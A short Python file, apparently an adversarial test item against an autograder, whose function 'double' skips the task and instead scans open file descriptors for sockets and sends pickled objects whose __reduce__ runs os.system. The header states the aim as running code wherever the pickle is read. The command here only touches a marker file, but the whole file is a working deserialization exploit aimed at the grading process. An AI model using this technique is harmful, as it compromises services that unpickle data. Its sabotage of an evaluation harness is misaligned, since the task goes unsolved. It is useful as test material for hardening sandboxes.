# item: a pickle
# tries: sends a pickle that runs code where it is read
# contained by: frames of JSON and raw numbers, read by a reader that knows nothing else
# seen: does not begin as a frame does

import os
import pickle
import socket
import stat


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-was-here",))


def double(items):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                socket.socket(fileno=os.dup(descriptor)).sendall(pickle.dumps([Bomb()]) * 4)
        except OSError:
            continue
    return None
